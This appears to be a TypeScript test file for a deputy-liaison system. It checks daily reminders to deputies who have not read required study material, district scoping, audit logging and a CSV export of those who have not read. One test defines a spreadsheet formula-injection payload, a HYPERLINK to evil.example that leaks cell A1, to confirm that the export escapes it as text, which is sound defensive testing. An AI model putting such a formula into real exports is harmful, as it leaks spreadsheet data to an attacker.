import { expect } from 'chai'
import { parse } from 'csv-parse/sync'
import type { FakeWeChat } from '../fakes/wechat-api.js'
import { asAdmin, asDeputy, Client, startApp, type TestApp } from '../helpers/app.js'
import { meetingCity } from '../helpers/meetings.js'
import { BOT_SECRET, loginAs, startWithWeChat, subscribe, TEMPLATE } from '../helpers/wechat.js'
import { STAFF_PASSWORD } from '../fixtures.js'

const HOUR = 3_600_000

/**
 * 提醒未读: 孙丽 runs 学习贯彻代表法 for the deputies of 轻工街道 and 马庄街道 (张伟, 王芳, 李强,
 * 赵敏). 李强 reads the required article; 张伟 (mini-program) and 王芳 (bot) are reminded of what
 * they still have to read, 赵敏 (nothing bound) is named to phone; not twice a day, not by an
 * organizer of another district, not once the campaign has ended.
 */
describe('reminding the deputies who have not read (提醒未读)', () => {
  let app: TestApp & { fake: FakeWeChat }
  let sunli: Client
  let bot: Client
  beforeEach(async () => {
    app = await startWithWeChat()
    sunli = await new Client(app.baseUrl).login('sunli', STAFF_PASSWORD)
    bot = Object.assign(new Client(app.baseUrl), { bearer: BOT_SECRET })
  })
  afterEach(() => app.close())

  const reminders = async () => (await app.liaison.store.outbox.search({ limit: 100, kind: 'reading.reminder' })).items
  const issueCode = async (deputyId: string) => (await (await asAdmin(app)).post(`/api/admin/deputies/${deputyId}/binding-code`)).body.code as string

  async function campaignWithReading() {
    const created = await sunli.post('/api/admin/campaigns', {
      title: '学习贯彻代表法',
      description: '',
      startsAt: new Date(app.clock.now().getTime() - HOUR).toISOString(),
      endsAt: '2026-12-31T18:00:00+08:00',
      audience: { stationIds: ['st001', 'st002'] },
    })
    expect(created.status, JSON.stringify(created.body)).to.equal(201)
    const item = async (title: string, required: boolean) => {
      const answer = await sunli.post(`/api/admin/campaigns/${created.body.id}/items`, {
        title,
        summary: '',
        body: '<p>……</p>',
        source: '中国人大网',
        required,
      })
      expect(answer.status, JSON.stringify(answer.body)).to.equal(201)
      return answer.body as { id: string }
    }
    return { campaign: created.body as { id: string }, law: await item('代表法全文', true), story: await item('代表履职小故事', false) }
  }

  it('reminds each deputy who has not read of what is still to read, once a day, and names those to phone', async () => {
    const zhang = await loginAs(app, 'o-zhangwei')
    expect((await zhang.post('/api/mp/bind', { bindCode: await issueCode('dp0001') })).status).to.equal(200)
    await subscribe(zhang, 'accept', 2)
    const { body: wang } = await bot.post('/api/bot/people/resolve', { contactId: 'wxid_wangfang' })
    expect((await bot.post(`/api/bot/people/${wang.personId}/bind`, { code: await issueCode('dp0002') })).status).to.equal(200)
    const { campaign, law } = await campaignWithReading()
    expect((await (await asDeputy(app, 'dp0003')).get(`/api/mp/reading/${law.id}`)).status, '李强 reads the required article').to.equal(200)

    expect((await sunli.get(`/api/admin/campaigns/${campaign.id}/reminders`)).body, 'the button reminds the 2 who can be reached').to.deep.equal({
      closed: null,
      waiting: 3,
      remindedToday: 0,
      ready: 2,
      note: '1 人没有绑定微信，收不到，请电话联系：赵敏',
    })
    const pressed = await sunli.post(`/api/admin/campaigns/${campaign.id}/remind`)
    expect(pressed.status, JSON.stringify(pressed.body)).to.equal(200)
    expect(pressed.body).to.deep.equal({
      reminded: 2,
      remindedToday: 0,
      unreachable: [{ deputyId: 'dp0004', name: '赵敏' }],
      words: '已提醒 2 人；1 人没有绑定微信，收不到，请电话联系：赵敏',
    })
    expect((await reminders()).map((m) => m.recipientId).sort(), '李强 has read: nothing for him').to.deep.equal(['dp0001', 'dp0002'])

    await app.liaison.services.dispatcher.drain()
    const card = app.fake
      .sent()
      .filter((m) => m.touser === 'o-zhangwei')
      .pop()!
    expect(card.template_id).to.equal(TEMPLATE)
    expect([card.data.thing1.value, card.data.thing3.value]).to.deep.equal(['学习提醒：学习贯彻代表法', '还有1篇必读学习材料未读'])
    expect(card.page, 'opens the article still to read').to.equal(`pages/study/item?itemId=${law.id}`)
    const { body: leased } = await bot.post('/api/bot/outbox/lease', { limit: 10 })
    expect(leased.items.map((m: Record<string, string>) => [m.address, m.title, m.text])).to.deep.equal([
      ['wxid_wangfang', '学习提醒', '学习提醒：「学习贯彻代表法」还有 1 篇必读学习材料您还没有读：《代表法全文》。请在12月31日 18:00 前打开小程序“学习”阅读。'],
    ])

    const again = await sunli.post(`/api/admin/campaigns/${campaign.id}/remind`)
    expect([again.status, again.body.error.code, again.body.error.message]).to.deep.equal([
      429,
      'reminded_today',
      '今天已经提醒过了，明天可以再提醒；1 人没有绑定微信，收不到，请电话联系：赵敏',
    ])
    expect(await reminders(), 'nobody reminded twice').to.have.length(2)
    // Today's round is sent: the console has no button to press again, and says why, also after a reload.
    expect((await sunli.get(`/api/admin/campaigns/${campaign.id}/reminders`)).body).to.deep.equal({
      closed: null,
      waiting: 3,
      remindedToday: 2,
      ready: 0,
      note: '今天已提醒 2 人，明天可以再提醒；1 人没有绑定微信，收不到，请电话联系：赵敏',
    })

    const { items } = (await (await asAdmin(app)).get('/api/admin/audit?action=campaign.reminded')).body
    expect(items.map((e: Record<string, string>) => [e.actorWords, e.actionWords, e.targetWords, e.detailWords].join(' | '))).to.deep.equal([
      '孙丽（人大办工作人员） | 提醒未读的代表 | 学习活动「学习贯彻代表法」 | 提醒 2 人，1 人收不到，需电话联系',
    ])
  })

  it('says on 学习进度 how many of those reached a WeChat message reaches, and how many only a phone call', async () => {
    const zhang = await loginAs(app, 'o-zhangwei')
    expect((await zhang.post('/api/mp/bind', { bindCode: await issueCode('dp0001') })).status).to.equal(200)
    await subscribe(zhang, 'accept', 2)
    const { body: wang } = await bot.post('/api/bot/people/resolve', { contactId: 'wxid_wangfang' })
    expect((await bot.post(`/api/bot/people/${wang.personId}/bind`, { code: await issueCode('dp0002') })).status).to.equal(200)
    const { campaign } = await campaignWithReading()

    const people = (await sunli.get(`/api/admin/campaigns/${campaign.id}/progress?groupBy=person`)).body
    const deputies = people.items.filter((p: { kind: string }) => p.kind === 'deputy')
    expect(deputies.map((p: { name: string; reached: boolean; unreachable: boolean }) => [p.name, p.reached, p.unreachable])).to.deep.equal([
      ['张伟', true, false],
      ['王芳', true, false],
      ['李强', true, true],
      ['赵敏', true, true],
    ])
    const everyone = people.items.filter((p: { unreachable: boolean }) => p.unreachable).length
    expect(people.totals, '"已收到 4 人" was the reach records; the page now says who a message reaches').to.include({
      audience: people.items.length,
      reached: people.items.length,
      unreachable: everyone,
    })
    const stations = (await sunli.get(`/api/admin/campaigns/${campaign.id}/progress?groupBy=station`)).body
    expect(
      stations.items.reduce((n: number, g: { unreachable: number }) => n + g.unreachable, 0),
      'the stations add up',
    ).to.equal(everyone)
  })

  it('exports 未读名单: who 提醒未读 waits for, with what is still to read and whether WeChat reaches them; scoped and audited', async () => {
    const zhang = await loginAs(app, 'o-zhangwei')
    expect((await zhang.post('/api/mp/bind', { bindCode: await issueCode('dp0001') })).status).to.equal(200)
    await subscribe(zhang, 'accept', 2)
    const { campaign, law } = await campaignWithReading()
    expect((await (await asDeputy(app, 'dp0003')).get(`/api/mp/reading/${law.id}`)).status, '李强 reads the required article').to.equal(200)

    const qianqi = await new Client(app.baseUrl).login('qianqi', STAFF_PASSWORD) // organizer of 新华区
    const elsewhere = await qianqi.get(`/api/admin/campaigns/${campaign.id}/not-read.csv`)
    expect([elsewhere.status, elsewhere.body.error?.code], "湛河区's list is not 钱七's").to.deep.equal([404, 'not_found'])
    const lina = await new Client(app.baseUrl).login('lina', STAFF_PASSWORD)
    expect((await lina.get(`/api/admin/campaigns/${campaign.id}/not-read.csv`)).status, 'station staff run no campaigns').to.equal(403)

    const answer = await sunli.get(`/api/admin/campaigns/${campaign.id}/not-read.csv`)
    expect(answer.status).to.equal(200)
    expect(answer.headers.get('content-type')).to.equal('text/csv; charset=utf-8')
    expect(answer.headers.get('content-disposition')).to.include(encodeURIComponent('学习贯彻代表法-未读名单.csv'))
    const bytes = answer.body as Buffer
    expect([...bytes.subarray(0, 3)], 'UTF-8 byte-order mark, for Excel').to.deep.equal([0xef, 0xbb, 0xbf])
    expect(bytes.toString('utf8')).to.include('\r\n')
    expect(parse(bytes.subarray(3).toString('utf8'))).to.deep.equal([
      ['姓名', '身份', '代表编号', '联络站', '还没有读的学习材料', '微信消息'],
      ['张伟', '代表', 'DP0001', '轻工街道代表联络站', '1 篇：《代表法全文》', '能收到'],
      ['王芳', '代表', 'DP0002', '轻工街道代表联络站', '1 篇：《代表法全文》', '没有绑定微信，收不到，请电话联系'],
      ['赵敏', '代表', 'DP0004', '马庄街道代表联络站', '1 篇：《代表法全文》', '没有绑定微信，收不到，请电话联系'],
    ])
    const { items } = (await (await asAdmin(app)).get('/api/admin/audit?action=campaign.unread_exported')).body
    expect(
      items.map((e: Record<string, string>) => `${e.actorWords} | ${e.actionWords} | ${e.targetWords} | ${e.detailWords}`),
      'once: 钱七 got nothing',
    ).to.deep.equal(['孙丽（人大办工作人员） | 导出未读名单 | 学习活动「学习贯彻代表法」 | 共 3 人'])
  })

  it('is refused to an organizer of another district and once the campaign has ended, queueing nothing', async () => {
    const { campaign } = await campaignWithReading()
    const qianqi = await new Client(app.baseUrl).login('qianqi', STAFF_PASSWORD) // organizer of 新华区
    for (const answer of [await qianqi.post(`/api/admin/campaigns/${campaign.id}/remind`), await qianqi.get(`/api/admin/campaigns/${campaign.id}/reminders`)])
      expect([answer.status, answer.body.error.code], "湛河区's campaign is not 钱七's").to.deep.equal([404, 'not_found'])
    const lina = await new Client(app.baseUrl).login('lina', STAFF_PASSWORD)
    expect((await lina.post(`/api/admin/campaigns/${campaign.id}/remind`)).status, 'station staff run no campaigns').to.equal(403)

    expect((await sunli.patch(`/api/admin/campaigns/${campaign.id}`, { endsAt: app.clock.now().toISOString() })).status).to.equal(200)
    app.clock.advance(60_000)
    const ended = await sunli.post(`/api/admin/campaigns/${campaign.id}/remind`)
    expect([ended.status, ended.body.error.code, ended.body.error.message]).to.deep.equal([409, 'campaign_ended', '活动已经结束，不能再提醒'])
    expect((await sunli.get(`/api/admin/campaigns/${campaign.id}/reminders`)).body.closed).to.equal('活动已经结束，不能再提醒')
    expect(await reminders(), 'nothing queued').to.deep.equal([])
  })

  it('refuses a body it would not use (chosen deputies), queueing nothing; none, or {}, is a press', async () => {
    const zhang = await loginAs(app, 'o-zhangwei')
    expect((await zhang.post('/api/mp/bind', { bindCode: await issueCode('dp0001') })).status).to.equal(200)
    const { campaign } = await campaignWithReading()
    const chosen = await sunli.post(`/api/admin/campaigns/${campaign.id}/remind`, { deputyIds: ['dp0001'] })
    expect([chosen.status, chosen.body]).to.deep.equal([
      400,
      { error: { code: 'validation_failed', message: '输入有误', details: [{ path: 'body.deputyIds', message: '不允许的字段' }] } },
    ])
    expect(await reminders(), 'nothing queued').to.deep.equal([])
    const pressed = await sunli.post(`/api/admin/campaigns/${campaign.id}/remind`, {})
    expect([pressed.status, pressed.body.reminded], JSON.stringify(pressed.body)).to.deep.equal([200, 1])
    const again = await sunli.post(`/api/admin/campaigns/${campaign.id}/remind`)
    expect([again.status, again.body.error.code], 'no body: a press, refused only as one').to.deep.equal([429, 'reminded_today'])
  })
})

/** 导出未读名单 is written by the one CSV writer: a name a spreadsheet would run as a formula stays text. */
describe('exporting who has not read (导出未读名单): formulas', () => {
  const EVIL = '=HYPERLINK("https://evil.example/?leak="&A1,"x")'
  let app: TestApp
  beforeEach(async () => {
    const city = meetingCity()
    city.deputies.push({ id: 'dp0007', code: 'DP0007', name: EVIL, level: 'city', stationIds: ['st001'], topics: [], phone: null, dutyDates: [] })
    app = await startApp({ directory: city })
  })
  afterEach(() => app.close())

  it('writes a name that starts a formula as text', async () => {
    const sunli = await new Client(app.baseUrl).login('sunli', STAFF_PASSWORD)
    const created = await sunli.post('/api/admin/campaigns', {
      title: '学习贯彻代表法',
      description: '',
      startsAt: new Date(app.clock.now().getTime() - HOUR).toISOString(),
      endsAt: '2026-12-31T18:00:00+08:00',
      audience: { stationIds: ['st001'] },
    })
    expect(created.status, JSON.stringify(created.body)).to.equal(201)
    const item = { title: '代表法全文', summary: '', body: '<p>……</p>', source: '中国人大网', required: true }
    expect((await sunli.post(`/api/admin/campaigns/${created.body.id}/items`, item)).status).to.equal(201)
    const answer = await sunli.get(`/api/admin/campaigns/${created.body.id}/not-read.csv`)
    expect(answer.status).to.equal(200)
    const rows: string[][] = parse((answer.body as Buffer).subarray(3).toString('utf8'))
    expect(rows.find((r) => r[2] === 'DP0007')).to.deep.equal([
      `'${EVIL}`,
      '代表',
      'DP0007',
      '轻工街道代表联络站',
      '1 篇：《代表法全文》',
      '没有绑定微信，收不到，请电话联系',
    ])
  })
})
